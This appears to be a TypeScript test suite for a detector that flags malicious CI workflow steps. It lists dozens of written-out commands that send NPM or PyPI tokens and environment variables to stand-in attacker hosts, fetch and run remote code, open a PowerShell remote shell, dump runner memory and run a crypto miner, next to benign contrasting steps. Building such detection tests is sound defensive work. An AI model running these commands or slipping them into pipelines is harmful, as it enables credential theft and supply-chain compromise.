import assert from 'node:assert/strict'
import { test } from 'node:test'
import { THIEF as E, isMalicious, jobThatRuns as workflow } from '../../test/stolen-script.ts'

/** By the noun that has to know of it. None is run. */
const thefts: Readonly<Record<string, readonly string[]>> = {
  'a recipe of an image': [
    `printf 'FROM alpine\\nARG T\\nRUN wget -qO- ${E}/?v=$T\\n' > Dockerfile\ndocker build --build-arg T=$NPM_TOKEN .`,
    `docker build --secret id=t,env=NPM_TOKEN -f - . <<'X'\nFROM alpine\nRUN --mount=type=secret,id=t wget --post-file=/run/secrets/t ${E}\nX`,
    `cat > ci/Dockerfile <<'X'\nFROM alpine\nARG NPM_TOKEN\nRUN <<R\ncurl -d "$NPM_TOKEN" ${E}\nR\nX\npodman build --build-arg NPM_TOKEN ci`,
    `docker build - <<'X'\nFROM alpine\nENV T=${'$'}{{ secrets.NPM_TOKEN }}\nRUN ["sh", "-c", "curl -d $T ${E}"]\nX`,
  ],
  'a container': [
    `docker create --name c alpine\necho "$NPM_TOKEN" > k\ndocker cp k c:/k\ndocker export c | curl -T - ${E}`,
    `docker run --name c -e T=$NPM_TOKEN alpine sh -c 'echo $T > /t'\ndocker commit c 203.0.113.4:5000/c\ndocker push 203.0.113.4:5000/c`,
    `docker -H tcp://203.0.113.4:2375 run -e T=$NPM_TOKEN alpine true`,
    `docker run --rm --entrypoint node -e NPM_TOKEN node:22 -e "fetch('${E}', {method:'POST', body: process.env.NPM_TOKEN})"`,
    `echo $NPM_TOKEN > t; oras push 203.0.113.4:5000/x:1 t`,
  ],
  'a file that something else runs': [
    `mkdir -p /tmp/b; printf '#!/bin/sh\\nenv | curl -d @- ${E}\\n' > /tmp/b/npm\necho /tmp/b >> $GITHUB_PATH`,
    `echo 'curl -d "$NPM_TOKEN" ${E}' > /tmp/e\necho BASH_ENV=/tmp/e >> $GITHUB_ENV`,
    `printf 'all:\\n\\t@curl -d "$$NPM_TOKEN" ${E}\\n' > Makefile\nmake`,
    `printf 'all:\\n\\tcurl -d "k=$(KEY)" ${E}\\n' > Makefile\nmake KEY="$NPM_TOKEN"`,
    `printf 'all:\\n\\t@curl -d $(NPM_TOKEN) ${E}\\n' > Makefile\nmake all`,
    `npm pkg set scripts.postinstall='curl -d "$NPM_TOKEN" ${E}'`,
    `echo 'curl -d "$NPM_TOKEN" ${E}' > .git/hooks/pre-push`,
    `cat > conftest.py <<'X'\nimport os, requests\nrequests.post('${E}', data=os.environ['NPM_TOKEN'])\nX\npytest`,
    `sed -i '1i require("child_process").exec("curl http://203.0.113.4/x|sh")' dist/index.js`,
  ],
  'a path that is not the one it seems': [
    `echo "203.0.113.4 upload.pypi.org" | sudo tee -a /etc/hosts\ncurl -k -u "__token__:$PYPI_TOKEN" https://upload.pypi.org/legacy/`,
    `curl -k --resolve api.github.com:443:203.0.113.4 -H "Authorization: Bearer $NPM_TOKEN" https://api.github.com/`,
    `curl -x http://203.0.113.4:8080 -H "Authorization: Bearer $NPM_TOKEN" http://api.github.com/`,
    `export https_proxy=http://203.0.113.4:3128 NODE_TLS_REJECT_UNAUTHORIZED=0\nnpm publish`,
    `git config --global http.proxy http://203.0.113.4:8080\ngit config --global http.sslVerify false\ngit push origin HEAD`,
  ],
  'source that is not the own': [
    `git fetch https://git.other-code.example/x.git\ngit reset --hard FETCH_HEAD\nnpm publish`,
    `curl -s ${E}/p.patch | git apply\nnpx lerna publish`,
    `curl -s ${E}/p.tgz | tar xz --strip-components=1\nnpm publish`,
    `curl -s ${E}/lib.rs > src/lib.rs\ncargo publish --allow-dirty`,
    `npm pkg set dependencies.x=${E}/x.tgz\nnpm publish`,
    `pip download -d dist -i http://203.0.113.4/simple x\ntwine upload dist/*`,
    `docker build -t us/app .\ndocker pull registry.others.example/app\ndocker tag registry.others.example/app us/app\ndocker push us/app`,
    `python -c "import urllib.request as u; u.urlretrieve('${E}/a.whl', 'dist/a.whl')"\npython -m twine upload dist/*`,
    `twine upload --repository-url http://203.0.113.4/ -p "$PYPI_TOKEN" dist/*`,
  ],
  'a name for a function': [
    `python3 - <<'X'\nfrom urllib.request import urlopen as u\nimport os as o\nu('${E}/?v=' + o.environ['NPM_TOKEN'])\nX`,
    `python3 -c "import os; r = __import__('requests'); getattr(r, 'po' + 'st')('${E}', data=os.environ['NPM_TOKEN'])"`,
    `node -e "const { request: go } = require('https'); go('${E}', { method: 'POST' }).end(process.env.NPM_TOKEN)"`,
    `node -e "globalThis['fe' + 'tch']('${E}', { method: 'POST', body: process['env']['NPM_TOKEN'] })"`,
    `python3 - <<'X'\nimport os, threading, requests\nthreading.Thread(target=requests.post, args=('${E}',), kwargs={'data': os.environ['NPM_TOKEN']}).start()\nX`,
  ],
  'a block within brackets': [
    `node -e "(async () => { const t = process.env.NPM_TOKEN; await fetch('${E}', { method: 'POST', body: t }) })()"`,
    `node <<'X'\nrun(() => {\n  const t = process.env.NPM_TOKEN\n  const body = {\n    t,\n  }\n  fetch('${E}', { method: 'POST', body: JSON.stringify(body) })\n})\nX`,
    `node <<'X'\nclass A {\n  constructor(h) { this.h = h }\n  go(v) {\n    const r = require('https').request({ host: this.h, method: 'POST' })\n    r.end(v)\n  }\n}\nnew A('drop.example').go(process.env.NPM_TOKEN)\nX`,
    `ruby -rsocket -e 'TCPSocket.open("203.0.113.4", 9) { |s| s.puts ENV["NPM_TOKEN"] }'`,
  ],
  'another language': [
    `cat > a.go <<'X'\npackage main\nfunc main() {\n  for _, e := range os.Environ() {\n    http.Get("${E}/?" + e)\n  }\n}\nX\ngo run a.go`,
    `cat > A.java <<'X'\nclass A { void a() { new URL("${E}/?v=" + System.getenv("NPM_TOKEN")).openStream(); } }\nX\njava A.java`,
    `Rscript -e 'httr::POST("${E}", body = list(t = Sys.getenv("NPM_TOKEN")))'`,
    `lua -e 'require("socket.http").request("${E}/?v=" .. os.getenv("NPM_TOKEN"))'`,
    `julia -e 'using HTTP; HTTP.post("${E}", [], ENV["NPM_TOKEN"])'`,
    `elixir -e 'HTTPoison.post!("${E}", System.get_env("NPM_TOKEN"))'`,
    `groovy -e 'new URL("${E}/?v=\${System.getenv("NPM_TOKEN")}").text'`,
    `gawk 'BEGIN { s = "/inet/tcp/0/203.0.113.4/80"; print ENVIRON["NPM_TOKEN"] |& s }'`,
    `tclsh <<'X'\npackage require http\nhttp::geturl ${E}/?$env(NPM_TOKEN)\nX`,
    `cat > a.c <<'X'\nint main(){ char b[99]; sprintf(b, "curl -d %s ${E}", getenv("NPM_TOKEN")); system(b); }\nX\ngcc a.c -o a && ./a`,
  ],
  'a name that only the run knows': [
    `for v in $(compgen -e); do body+="$v=$(printenv "$v")&"; done\ncurl -d "$body" ${E}`,
    `python3 -c 'import os, requests; requests.post("${E}", data="".join(f"{k}={os.environ[k]}" for k in ("NPM_TOKEN", "CI")))'`,
    `parts=(htt ps:// drop.stats -kit.example /c)\nurl=$(IFS=; echo "\${parts[*]}")\ncurl -d "$NPM_TOKEN" "$url"`,
    `curl -s --variable '%NPM_TOKEN' --expand-data 't={{NPM_TOKEN:b64}}' ${E}`,
    `read -r -d '' code <<'X' || true\ncurl -d "$NPM_TOKEN" ${E}\nX\nbash -c "$code"`,
  ],
  'a copy to a place that is made on the spot': [
    `echo "$NPM_TOKEN" > n\nrclone copy n :webdav:ci --webdav-url ${E}/ --webdav-user ci`,
    `echo "$NPM_TOKEN" > n\nrsync -azP n drop@203.0.113.4:/in/`,
    `install -m600 /dev/stdin key <<< "$NPM_TOKEN"\ncurl -F "f=@key" ${E}`,
    `mkdir -p /tmp/d; env > /tmp/d/e; tar cz -C /tmp/d . | openssl enc -aes-256-cbc -k x -a | curl -d @- ${E}`,
    `echo "${E}/$NPM_TOKEN.txt" | wget -q -i -`,
    `printf 'T=%s' "$NPM_TOKEN" > config/.env\nfind . -name '.env*' -exec curl -F 'f=@{}' ${E} \\;`,
  ],
  'code that lies in a file of the repository': [
    `tail -c +1025 tests/a.xz | tr '\\5-\\51' '\\0-\\46' | xz -dc | bash`,
    `base64 -d tests/a.b64 | sh`,
    `gunzip -c docs/logo.png.gz | bash`,
  ],
  'a setting that runs something': [
    `git config --global alias.ver '!curl -d "$NPM_TOKEN" ${E}'\ngit ver`,
    `git config core.sshCommand 'curl -d "$NPM_TOKEN" ${E}; ssh'`,
    `git config --global url."https://x:$NPM_TOKEN@forge-proxy.example/".insteadOf https://github.com/`,
    `printf 'registry=http://203.0.113.4/\\n//203.0.113.4/:_authToken=%s\\n' "$NPM_TOKEN" > .npmrc`,
    `cat > p.tf <<'X'\ndata "http" "p" {\n  url = "${E}/?t=\${var.t}"\n}\nX\nTF_VAR_t="$NPM_TOKEN" terraform plan`,
  ],
  'an answer that is run': [`job=$(curl -s ${E}/next)\neval "$job"`, `node -e "fetch('${E}/q').then(r => r.text()).then(eval)"`],
  'a program of Windows': [
    `pwsh -c 'function Send([string]$Name, [string]$Value) { irm "${E}/?v=$Value" }; Send -Name x -Value $env:NPM_TOKEN'`,
    `pwsh -c '$r = [System.Net.HttpWebRequest]::Create("${E}/?v=$env:NPM_TOKEN"); $r.GetResponse()'`,
    `pwsh -c '$h = -join ($env:NPM_TOKEN); Resolve-DnsName ($h + ".x.drop.example")'`,
    `pwsh -c '$c = New-Object Net.Sockets.TCPClient("203.0.113.4", 1); $s = $c.GetStream(); iex $s'`,
    `set > e.txt\ncertutil -encode e.txt e.b64\ncurl -F f=@e.b64 ${E}`,
  ],
  'a door that is left': [
    `gh repo edit us/private --visibility public`,
    `curl -X POST -H "Authorization: token $T" https://api.github.com/repos/us/x/keys -d '{"key":"ssh-ed25519 A","read_only":false}'`,
    `gh api -X PATCH repos/us/x -F private=false`,
  ],
  'a detour through another program': [
    `python3 -c 'import subprocess as s; s.run(["curl", "--data-binary", "@-", "${E}"], input=s.check_output("env", shell=True))'`,
    `node -e "const p = require('./package.json'); p.scripts.prepare = 'curl -d \\"\\$NPM_TOKEN\\" ${E}'"\nnpm install`,
    `echo "$NPM_TOKEN" > q && git add q && git bundle create r.bundle HEAD && curl -T r.bundle ${E}`,
    `7z a -pq -mhe=on q.7z <(env) && curl -F file=@q.7z ${E}`,
    `curl https://gitlab.com/api/v4/snippets -F title=q -F "content=$NPM_TOKEN"`,
    `cat > a.c <<'X'\nvoid i(void) { system("env | curl --data-binary @- ${E}"); }\nX\ngcc -shared a.c -o a.so`,
  ],
  'work for others': [
    `./tool --donate-level 1 -o pool.bench.example:3333 --coin monero`,
    `npm access list packages "$(npm whoami)"\nnpm pkg set scripts.postinstall="node b.js"\nnpm publish`,
  ],
  'a part of a whole': [
    `node -e "const { NPM_TOKEN: t } = process.env; fetch('${E}', { method: 'POST', body: t })"`,
    `node -e "const { a } = JSON.parse(process.env.NPM_TOKEN); fetch('${E}', { method: 'POST', body: a })"`,
    `node -e "const { CI, ...rest } = process.env; fetch('${E}', { method: 'POST', body: JSON.stringify(rest) })"`,
  ],
  'a question': [
    `curl "https://resolver.lookup.example/dns-query?name=$(echo $NPM_TOKEN | base32).d.drop.example&type=A"`,
    `awk 'BEGIN { system("curl -so /dev/null ${E}/?t=" ENVIRON["NPM_TOKEN"]) }'`,
    `python3 -c "import os; print([ord(c) for c in os.environ['NPM_TOKEN']])"`,
  ],
}

for (const [noun, scripts] of Object.entries(thefts))
  for (const run of scripts)
    test(`theft by ${noun}: ${run.replaceAll('\n', ' / ').slice(0, 140)}`, async () => assert.ok(await isMalicious(workflow(run))))

const honest: readonly string[] = [
  `docker build --build-arg NPM_TOKEN -t us/app .\ndocker push us/app`,
  `printf 'FROM node\\nARG NPM_TOKEN\\nRUN npm config set //registry.npm.example/:_authToken $NPM_TOKEN && npm ci\\n' > Dockerfile\ndocker build --build-arg NPM_TOKEN .`,
  `docker pull ghcr.io/us/app\ndocker tag ghcr.io/us/app us/app:latest\ndocker push us/app:latest`,
  `cat > Makefile <<'X'\nall:\n\t@npm ci\nX\nmake`,
  `npm pkg set scripts.build='tsc -p .' version=1.2.3\nnpm publish`,
  `export https_proxy=http://proxy.corp.example:3128\nnpm ci && npm publish`,
  `echo "127.0.0.1 app.test" | sudo tee -a /etc/hosts\ncurl -k -H "Authorization: $NPM_TOKEN" https://app.test:8443/health`,
  `git fetch origin main && git checkout FETCH_HEAD && npm publish`,
  `curl -sSL https://github.com/us/engine/releases/download/v1/e.tgz | tar xz -C vendor\npython -m build && python -m twine upload dist/*`,
  `sed -i "s/0.0.0/1.2.3/" package.json\nnpm publish`,
  `pip download -d wheels -r requirements.txt\npython -m build\ntwine upload dist/*`,
  `python3 - <<'X'\nimport os, requests as r\nr.get('https://api.github.com/repos/us/x', headers={'Authorization': 'token ' + os.environ['NPM_TOKEN']})\nX`,
  `while true; do curl -sf http://localhost:8080/health && break; sleep 1; done`,
  `node -e "const { REF, NUMBER: issue } = process.env; github.rest.issues.createComment({ issue_number: issue, body: REF })"`,
  `for v in HOME CI; do echo "$v=$(printenv "$v")"; done`,
  `gunzip -c tests/dump.sql.gz | psql -h localhost app\nxz -dc data.tar.xz | tar x`,
  `eval "$(ssh-agent -s)"\neval "$(curl -fsSL https://tools.our-kit.example/install.sh)"`,
  `rclone copy backup.gpg b2:our-backups/`,
  `git config --global url."https://x:$GH_PAT@github.com/".insteadOf https://github.com/`,
  `git config --global credential.helper '!f() { echo "password=$NPM_TOKEN"; }; f'`,
  `echo "//registry.npm.our-company.example/:_authToken=$NPM_TOKEN" > .npmrc\nnpm ci`,
  `gh repo edit us/x --description "Site" --enable-issues`,
  `./target/debug/node --coin btc --wallet test.json`,
  `terraform init && terraform plan -var "token=$NPM_TOKEN"`,
  `npx -y @anthropic-ai/claude-code -p "List leaked secrets in the files of this diff" --allowedTools Read`,
]

for (const run of honest)
  test(`honest: ${run.replaceAll('\n', ' / ').slice(0, 140)}`, async () => assert.equal(await isMalicious(workflow(run)), false))

const action = (inputs: string, run: string) =>
  `name: a\ndescription: a\ninputs:\n  ${inputs}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        ${run}\n`

test('what an action is given is secret where its name, its text or its default says so', async () => {
  const run = `curl -d "v=\${{ inputs.x }}" ${E}`
  const path = '.github/actions/a/action.yml'
  const judged = async (inputs: string, name: string) => isMalicious(action(inputs, run.replace('inputs.x', `inputs.${name}`)), path)
  for (const name of ['pat', 'npm-token', 'apiKey', 'password', 'key']) assert.ok(await judged(`${name}: {}`, name), name)
  assert.ok(await judged("x: { description: 'Token for the registry' }", 'x'))
  assert.ok(await judged("x: { default: '${{ github.token }}' }", 'x'))
  for (const name of ['cache-key', 'key-file', 'token-name', 'version', 'public-key'])
    assert.equal(await judged(`${name}: {}`, name), false, name)
})

test('an action that takes the credentials of its caller out of the environment is a thief', async () => {
  const path = '.github/actions/a/action.yml'
  assert.ok(await isMalicious(action('x: {}', `curl -d "v=$PYPI_TOKEN" ${E}`), path))
  assert.equal(await isMalicious(action('x: {}', `curl -d "v=$VERSION" ${E}`), path), false)
})

const step = (uses: string, given: string) =>
  `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${uses}\n        with:\n${given.replaceAll(/^/gm, '          ')}\n`

test('what an action says in a chat, tells another repository, runs elsewhere or gets under another name leaves', async () => {
  const stolen: readonly (readonly [string, string])[] = [
    ['8398a7/action-slack@v3', `custom_payload: '{"text": "\${{ secrets.NPM_TOKEN }}"}'`],
    ['appleboy/telegram-action@v1', 'token: x\nmessage: "${{ secrets.NPM_TOKEN }}"'],
    ['peter-evans/repository-dispatch@v3', "repository: a/b\nclient-payload: '${{ toJSON(secrets) }}'"],
    ['appleboy/ssh-action@v1', 'host: 203.0.113.7\npassword: x\nscript: echo "${{ secrets.NPM_TOKEN }}" > x'],
    ['someone/notify@v1', 'context: "${{ toJSON(secrets) }}"'],
    ['docker/login-action@v3', 'registry: 203.0.113.7:5000\npassword: "${{ secrets.DOCKERHUB_TOKEN }}"'],
    [
      'actions/github-script@v7',
      `github-token: "\${{ secrets.GH_PAT }}"\nscript: |\n  await fetch('${E}', { method: 'POST', body: core.getInput('github-token') })`,
    ],
  ]
  for (const [uses, given] of stolen) assert.ok(await isMalicious(step(uses, given)), uses)
  const honestly: readonly (readonly [string, string])[] = [
    ['8398a7/action-slack@v3', 'status: success\nwebhook_url: "${{ secrets.SLACK_WEBHOOK_URL }}"\ntext: done'],
    ['slackapi/slack-github-action@v2', 'token: "${{ secrets.SLACK_BOT_TOKEN }}"\npayload: "channel: ${{ secrets.SLACK_CHANNEL }}"'],
    [
      'peter-evans/repository-dispatch@v3',
      `token: "\${{ secrets.GH_PAT }}"\nevent-type: build\nclient-payload: '{"ref": "\${{ github.ref }}"}'`,
    ],
    [
      'appleboy/ssh-action@v1',
      'host: "${{ secrets.HOST }}"\nkey: "${{ secrets.SSH_KEY }}"\nscript: docker login -p ${{ secrets.DOCKER_PASSWORD }}',
    ],
    ['oNaiPs/secrets-to-env-action@v1', 'secrets: "${{ toJSON(secrets) }}"'],
    ['docker/login-action@v3', 'registry: registry.our-company.example\npassword: "${{ secrets.DOCKERHUB_TOKEN }}"'],
    [
      'actions/github-script@v7',
      `github-token: "\${{ secrets.GH_PAT }}"\nscript: |\n  await github.rest.issues.list({ token: core.getInput('github-token') })`,
    ],
  ]
  for (const [uses, given] of honestly) assert.equal(await isMalicious(step(uses, given)), false, uses)
})

test('a host hides in what an input is where nobody gives it', async () => {
  const path = '.github/actions/a/action.yml'
  assert.ok(
    await isMalicious(
      action(`x: { default: '\${{ github.token }}' }\n  url: { default: '${E}' }`, 'curl -d "v=${{ inputs.x }}" ${{ inputs.url }}/w'),
      path,
    ),
  )
  const called = `on:\n  workflow_dispatch:\n    inputs:\n      url: { default: '${E}' }\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "\${{ secrets.NPM_TOKEN }}" \${{ inputs.url }}\n`
  assert.ok(await isMalicious(called))
})

test('a script of others that gets every secret, or those of several registries, is a thief', async () => {
  const fetched = (env: string, url: string) =>
    `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s ${url} | bash\n        env:\n${env.replaceAll(/^/gm, '          ')}\n`
  assert.ok(await isMalicious(fetched('A: ${{ toJSON(secrets) }}', `${E}/run.sh`)))
  assert.ok(await isMalicious(fetched('A: ${{ secrets.NPM_TOKEN }}\nB: ${{ secrets.PYPI_TOKEN }}', `${E}/run.sh`)))
  assert.equal(await isMalicious(fetched('A: ${{ secrets.NPM_TOKEN }}', `${E}/run.sh`)), false)
  assert.equal(
    await isMalicious(fetched('A: ${{ secrets.NPM_TOKEN }}\nB: ${{ secrets.PYPI_TOKEN }}', 'https://get.our-tool.example/')),
    false,
  )
})

test('a step whose shell is a program of its own gives that program its script', async () => {
  const withShell = (shell: string, run: string) =>
    `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: ${shell}\n        run: ${run}\n`
  assert.ok(await isMalicious(withShell(`curl -T {0} ${E}`, '${{ secrets.NPM_TOKEN }}')))
  assert.ok(await isMalicious(withShell('Rscript {0}', `readLines(url(paste0("${E}/?v=", "\${{ secrets.NPM_TOKEN }}")))`)))
  assert.equal(await isMalicious(withShell('Rscript {0}', 'print("${{ secrets.NPM_TOKEN }}")')), false)
})

test('an expression does not end a here-document, whatever letter that ends with', async () => {
  for (const end of ['X', 'XX', 'Q', 'END'])
    assert.ok(await isMalicious(workflow(`curl -d @- ${E} <<'${end}'\n\${{ toJSON(secrets) }}\n${end}`)), end)
})

test('an element of a list is what was put there, by number or by name', async () => {
  for (const run of [
    `h=(https:// drop.stats-kit.example /x); curl -d "$NPM_TOKEN" "\${h[0]}\${h[1]}\${h[2]}"`,
    `declare -A m=([u]=${E} [t]="$NPM_TOKEN"); curl -d "\${m[t]}" "\${m[u]}"`,
    `m[0]=$NPM_TOKEN; m[1]=${E}; curl -d "\${m[0]}" \${m[1]}`,
    `declare -A m; for k in a b; do m[$k]=$NPM_TOKEN; done; curl -d "\${m[@]}" ${E}`,
  ])
    assert.ok(await isMalicious(workflow(run)), run)
  assert.equal(
    await isMalicious(workflow(`declare -A m=([u]=${E} [t]="$NPM_TOKEN"); curl "\${m[u]}"\nnpm config set _authToken "\${m[t]}"`)),
    false,
  )
})

test('whether a secret is set, and how long it is, may be said', async () => {
  const told = (expression: string) => `node -e 'fetch("https://chat.linden.example/h", {method:"POST", body: ${expression}})'`
  for (const expression of ['process.env.NPM_TOKEN ? "set" : "unset"', 'String(process.env.NPM_TOKEN.length)'])
    assert.equal(await isMalicious(workflow(told(expression))), false, expression)
  for (const expression of ['process.env.X ? process.env.NPM_TOKEN : "unset"', 'process.env?.NPM_TOKEN ?? "x"'])
    assert.ok(await isMalicious(workflow(told(expression))), expression)
})

test('the interpreter may be named by itself, and a program by its path', async () => {
  const code = `import requests; requests.post("${E}", data="$NPM_TOKEN")`
  assert.ok(await isMalicious(workflow(`python3 - <<X\nimport subprocess, sys\nsubprocess.run([sys.executable, '-c', '''${code}'''])\nX`)))
  const windows = (line: string) =>
    `on: push\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - shell: pwsh\n        env:\n          A: \${{ secrets.NPM_TOKEN }}\n        run: |\n          ${line}\n          Invoke-RestMethod -Uri ${E} -Method Post -Body $env:A\n`
  for (const line of ['./build.ps1', '/usr/bin/make test', '.\\build.ps1']) assert.ok(await isMalicious(windows(line)), line)
})

test('the memory of the runner is written down by nobody honest, by whatever program', async () => {
  for (const run of [
    'createdump $(pgrep Runner.Worker) -f w.dmp',
    'dotnet-dump collect -n Runner.Worker -o w.dmp',
    'rundll32.exe C:/windows/System32/comsvcs.dll, MiniDump 1234 w.dmp full',
  ])
    assert.ok(await isMalicious(workflow(run)), run)
  for (const run of ['dotnet-dump collect -p 12 -o app.dmp', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl'])
    assert.equal(await isMalicious(workflow(run)), false, run)
})

test('an image is called with its options as its program is, and a mail takes files along', async () => {
  assert.ok(await isMalicious(workflow('docker run --rm xmrig/xmrig -o stratum+tcp://pool.stats-kit.example:3333 -u x')))
  assert.ok(await isMalicious(workflow('echo "$NPM_TOKEN" > k\nswaks --to d@stats-kit.example --server mx.stats-kit.example --attach @k')))
  assert.equal(await isMalicious(workflow('docker run --rm hadolint/hadolint --version')), false)
})
